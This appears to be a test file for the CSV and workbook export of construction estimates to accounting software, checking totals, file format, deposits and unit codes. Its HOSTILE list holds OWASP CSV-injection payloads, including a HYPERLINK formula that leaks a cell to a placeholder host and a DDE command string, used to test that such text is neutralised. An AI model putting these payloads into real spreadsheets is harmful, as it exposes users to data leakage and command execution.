@@ -1,0 +1,245 @@
+"""The hand-off to the books: what it sums to, how other libraries read it, that no text of it is run, that it is known again."""
+
+import csv
+import datetime as dt
+import hashlib
+import io
+import json
+import re
+from dataclasses import replace
+from decimal import Decimal
+from pathlib import Path
+
+import export_demo as demo
+import pandas as pd
+import pytest
+from frictionless import Package
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+import kit
+from kit.errors import PriceError
+from kit.export import Payment, control_totals, handoff_bytes, handoff_rows, read_handoff, restore_text, write_handoff, write_workbook
+from kit.export.handoff import COLUMNS, TEXT_COLUMNS
+from kit.issued import issue_estimate, list_issued, open_issued
+from kit.money import round_cents
+from kit.records import CostType
+
+NAMES = (*demo.EXAMPLES, *demo.VARIANTS)
+NUMBERS = {"quantity", "unit_cost", "cost", "sell"}
+# UN/ECE Recommendation 20, revision 12e/13e, as in the UBL 2.4 genericode list: code by unit (key unece-rec20).
+PRINTED_CODES = {
+    "each": "EA",
+    "ft": "FOT",
+    "sq ft": "FTK",
+    "fl oz": "OZA",
+    "gal": "GLL",
+    "lb": "LBR",
+    "h": "HUR",
+    "hour": "HUR",
+    "worker-hour": "LH",
+    "day": "DAY",
+    "one": "C62",
+}
+# First cells of the published list (OWASP, "CSV Injection", key owasp-csv-injection) and the ways around it that were reported.
+HOSTILE = (
+    '=1+2";=1+2',
+    "=1+2'\" ;,=1+2",
+    '=HYPERLINK("http://example.invalid?leak="&A1,"see here")',
+    "=cmd|'/c x'!A0",
+    "+1+1",
+    "-1+1",
+    "@SUM(1+1)",
+    " =1+1",
+    "\u00a0=1+1",
+    "＝1+1",
+    "'=1+1",
+    'x",=1+1,"y',
+    "-25.00",
+)
+
+
+def estimate_of(name: str) -> kit.Estimate:
+    return demo.VARIANTS[name]() if name in demo.VARIANTS else demo.example(name)
+
+
+def deposit_of(found: kit.Estimate) -> tuple[Payment, ...]:
+    first = round_cents(found.price / 10)
+    return Payment(1, "at signing", first, deposit=True), Payment(2, "at the end", found.price - first)
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_pandas_reads_the_same_totals(tmp_path: Path, name: str) -> None:
+    """Read back by pandas: as many rows, cost and price to the cent, with a deposit among them and its credit negative."""
+    found = estimate_of(name)
+    path, _, control = write_handoff(found, tmp_path, draws=deposit_of(found))
+    told = json.loads(control.read_text(encoding="utf-8"))
+    table = pd.read_csv(path, dtype={column: str for column in COLUMNS if column not in NUMBERS}, keep_default_na=False)
+    assert tuple(table.columns) == COLUMNS
+    assert len(table) == told["count"]
+    assert round_cents(Decimal(repr(float(table["cost"].sum())))) == Decimal(told["sum_cost"]) == found.cost
+    assert round_cents(Decimal(repr(float(table["sell"].sum())))) == Decimal(told["sum_sell"]) == found.price
+    assert hashlib.sha256(path.read_bytes()).hexdigest() == told["file_sha256"]
+    credit = table[table["line_id"] == "draw:1/earned"]["sell"]
+    assert list(credit) == [-float(round_cents(found.price / 10))]
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_the_reference_library_finds_the_hand_off_sound_and_reads_the_same_totals(tmp_path: Path, name: str) -> None:
+    """Descriptor, types, required cells, keys, size and fingerprint hold by the Data Package standard's own reader."""
+    found = estimate_of(name)
+    _, package, control = write_handoff(found, tmp_path, draws=deposit_of(found))
+    report = Package(str(package)).validate()
+    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])[:5]
+    rows = Package(str(package)).get_resource("rows").read_rows()
+    told = json.loads(control.read_text(encoding="utf-8"))
+    assert len(rows) == told["count"]
+    assert (sum(row["cost"] for row in rows), sum(row["sell"] for row in rows)) == (found.cost, found.price)
+    assert {type(row["taxable"]) for row in rows} == {bool}
+
+
+def test_the_reference_library_notices_a_changed_file(tmp_path: Path) -> None:
+    """The test above can fail: a figure that was changed, a row that stands twice."""
+    path, package, _ = write_handoff(demo.example(demo.FIRST), tmp_path)
+    lines = path.read_bytes().splitlines(keepends=True)
+    path.write_bytes(b"".join([*lines, lines[1]]))
+    kinds = {kind for (kind,) in Package(str(package)).validate().flatten(["type"])}
+    assert {"hash-count", "byte-count", "primary-key"} <= kinds
+
+
+def test_the_file_is_as_rfc_4180_says(tmp_path: Path) -> None:
+    """Records end in CRLF, every field is quoted, inner quotes are doubled, as many fields in each record."""
+    path, _, _ = write_handoff(demo.with_texts('A "quoted", name', "note"), tmp_path)
+    content = path.read_bytes().decode()
+    assert content.endswith("\r\n")
+    assert not re.search(r"(?<!\r)\n", content)
+    assert '"A ""quoted"", name"' in content
+    records = list(csv.reader(io.StringIO(content, newline=""), strict=True))
+    assert {len(record) for record in records} == {len(COLUMNS)}
+    assert all(re.fullmatch(r'("(?:[^"]|"")*"(,|$))+', line) for line in content.split("\r\n")[:-1])
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_hostile_texts_stay_texts_in_csv_and_workbook(tmp_path: Path, text: str) -> None:
+    """No field of the CSV begins like a formula; taken back it is as it was; in the workbook it is stored as text, sign for sign."""
+    found = demo.with_texts(text, text)
+    path, _, _ = write_handoff(found, tmp_path, stem="rows")
+    with path.open(encoding="utf-8", newline="") as file:
+        rows = list(csv.DictReader(file))
+    for row in rows:
+        for column in TEXT_COLUMNS:
+            assert not row[column].lstrip().startswith(("=", "+", "-", "@", "＝")), (column, row[column])
+    shown = " ".join(text.split())
+    assert {restore_text(row["customer"]) for row in rows} == {shown}
+    import openpyxl
+
+    sheet = openpyxl.load_workbook(write_workbook(found, tmp_path / "job.xlsx"))["Import"]
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value == shown]
+    assert len(cells) >= len(rows)
+    assert {cell.data_type for cell in cells} == {"s"}
+
+
+def test_numbers_are_not_defused() -> None:
+    """A credit of -25.00 stays a number."""
+    found = demo.example(demo.FIRST)
+    rows = handoff_rows(found, draws=(Payment(1, "at signing", Decimal("25.00"), deposit=True), Payment(2, "rest", found.price - 25)))
+    assert b'"-25.00"' in handoff_bytes(rows)
+
+
+@settings(max_examples=40, deadline=None)
+@given(st.text(st.characters(codec="utf-8"), min_size=1, max_size=40), st.text(st.characters(codec="utf-8"), max_size=20))
+def test_what_was_written_reads_back(customer: str, note: str) -> None:
+    """Whatever a customer is called: the rows read back are those that were written."""
+    rows = handoff_rows(demo.with_texts(customer, note or "x"))
+    assert read_handoff(handoff_bytes(rows)) == rows
+
+
+def test_raw_texts_are_as_they_were() -> None:
+    """For a reader that is no spreadsheet no apostrophe is added."""
+    rows = handoff_rows(demo.with_texts("=1+1", "note"))
+    assert b'"=1+1"' in handoff_bytes(rows, raw=True)
+    assert b'"\'=1+1"' in handoff_bytes(rows)
+
+
+@pytest.mark.parametrize("content", [b"", b"a,b\r\n1,2\r\n", "ä".encode("latin-1")])
+def test_other_files_are_refused(content: bytes) -> None:
+    """What is no hand-off says so."""
+    with pytest.raises(PriceError, match="hand-off: can't be read: "):
+        read_handoff(content)
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_columns_hold_what_the_lists_say(name: str) -> None:
+    """Accounts by cost type, names and classes by cost code, the contractor form by supplier, tax codes by tax paid."""
+    found = estimate_of(name)
+    lists = found.lists
+    for row in handoff_rows(found):
+        account = lists.accounts[CostType(row.cost_type)]
+        assert (row.expense_account, row.income_account) == (account.expense_account, account.income_account)
+        code = lists.cost_codes[row.cost_code]
+        assert (row.cost_code_name, row.uniformat) == (code.name, code.uniformat or "")
+        assert row.tax_code == lists.books["tax-code-paid" if row.taxable else "tax-code-none"].entry
+        assert row.contractor_form == (lists.suppliers[row.supplier].contractor_form if row.supplier else "no")
+        assert (row.currency, row.status, row.revision, row.draw) == ("USD", "draft", 0, None)
+        assert row.unit_code in PRINTED_CODES.values()
+
+
+def test_a_supplier_without_a_row_is_asked_about() -> None:
+    """Nobody said whether the form is due: ask."""
+    found = demo.example(demo.FIRST)
+    bare = replace(found, lists=replace(found.lists, suppliers={}))
+    assert {row.contractor_form for row in handoff_rows(bare) if row.supplier} == {"ask"}
+
+
+def test_unit_codes_are_those_of_the_published_list() -> None:
+    """Our units by their code; a pack counts as one, an hour of our own people as a labour hour."""
+    with (Path(kit.__file__).parent / "export" / "unit_codes.csv").open(encoding="utf-8") as file:
+        assert {row["unit"]: row["code"] for row in csv.DictReader(file)} == PRINTED_CODES
+    rows = {row.line_id: row for row in handoff_rows(demo.example(demo.FIRST))}
+    assert {row.unit_code for line_id, row in rows.items() if line_id.startswith("task:")} == {"LH"}
+    assert {row.unit_code for row in rows.values() if row.unit.startswith(("box of", "96 in"))} == {"C62"}
+
+
+def test_a_deposit_is_a_liability_until_it_is_earned() -> None:
+    """Two rows on the liability account that sum to nothing: taken with its own draw, earned with the last."""
+    found = demo.example(demo.FIRST)
+    rows = {row.line_id: row for row in handoff_rows(found, draws=deposit_of(found)) if row.line_id.startswith("draw:")}
+    taken, earned = rows["draw:1/taken"], rows["draw:1/earned"]
+    liability = found.lists.books["deposit-liability"].entry
+    assert {taken.income_account, earned.income_account} == {liability}
+    assert (taken.sell, earned.sell) == (round_cents(found.price / 10), -round_cents(found.price / 10))
+    assert (taken.draw, earned.draw) == (1, 2)
+    assert (taken.cost, earned.cost, taken.expense_account) == (0, 0, "")
+
+
+def test_the_same_document_is_known_again(tmp_path: Path) -> None:
+    """Handed over twice it has the same name, revision and fingerprint; the next revision has others."""
+    found = demo.example(demo.FIRST)
+    issue_estimate(found, tmp_path, today=dt.date(2026, 3, 4))
+    issue_estimate(demo.other_terms(extra_trips=3), tmp_path, today=dt.date(2026, 3, 9))
+    first, second = (open_issued(path) for path in list_issued(tmp_path, found.job.identity.job_number))
+    rows = [handoff_rows(one.estimate, issued=one) for one in (first, first, second)]
+    marks = [{(row.document, row.revision, row.date, row.status, row.fingerprint) for row in each} for each in rows]
+    assert marks[0] == marks[1] == {(first.number, 1, dt.date(2026, 3, 4), "issued", f"sha256:{first.sha256[:16]}")}
+    assert marks[2] == {(second.number, 2, dt.date(2026, 3, 9), "issued", f"sha256:{second.sha256[:16]}")}
+    assert handoff_bytes(rows[0]) == handoff_bytes(rows[1])
+    assert control_totals(rows[0], b"")["fingerprint"] != control_totals(rows[2], b"")["fingerprint"]
+
+
+def test_the_same_input_gives_the_same_files(tmp_path: Path) -> None:
+    """All three files, byte by byte, named after the document."""
+    folders = (tmp_path / "one", tmp_path / "two")
+    for folder in folders:
+        folder.mkdir()
+    one, two = (write_handoff(demo.example(demo.FIRST), folder) for folder in folders)
+    assert [path.name for path in one] == [path.name for path in two]
+    assert [path.read_bytes() for path in one] == [path.read_bytes() for path in two]
+    stem = f"{demo.example(demo.FIRST).job.identity.job_number}-draft"
+    assert [path.name for path in one] == [f"{stem}.csv", f"{stem}.datapackage.json", f"{stem}.control.json"]
+
+
+def test_rows_that_do_not_sum_are_refused() -> None:
+    """A build-up that was tampered with never reaches the books."""
+    found = demo.example(demo.FIRST)
+    with pytest.raises(PriceError, match="rows for the books: sum to"):
+        handoff_rows(replace(found, purchases=found.purchases[1:]))
